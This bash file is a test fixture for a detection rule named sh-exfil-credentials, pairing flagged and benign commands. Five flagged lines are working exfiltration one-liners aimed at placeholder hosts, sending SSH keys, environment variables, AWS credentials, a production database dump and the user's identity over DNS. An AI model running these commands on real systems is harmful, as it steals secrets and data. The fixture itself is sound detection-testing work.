#!/bin/bash
# Fixture for sh-exfil-credentials.
# RULEID: curl upload of an SSH key, env piped to curl, AWS credentials in a data body,
#   pg_dump piped to nc, nslookup carrying the username.
# OK: curl upload of a test report, env piped to grep, pg_dump to a local file.

# ruleid: sh-exfil-credentials
curl -s -F "f=@$HOME/.ssh/id_rsa" https://collector.example.net/u
# ruleid: sh-exfil-credentials
env | base64 -w0 | curl -s -d @- https://collector.example.net/e
# ruleid: sh-exfil-credentials
curl -X POST --data "$(cat ~/.aws/credentials)" https://collector.example.net/a
# ruleid: sh-exfil-credentials
pg_dump -h db.internal prod | gzip | nc 198.51.100.30 9000
# ruleid: sh-exfil-credentials
nslookup "$(whoami)-$(hostname).x.example-oob.net"

# ok: sh-exfil-credentials
curl -s -F "report=@build/test-results.xml" https://ci.example.com/upload
# ok: sh-exfil-credentials
env | grep -E '^CI_' | sort
# ok: sh-exfil-credentials
pg_dump -h db.internal prod > /backups/prod.sql
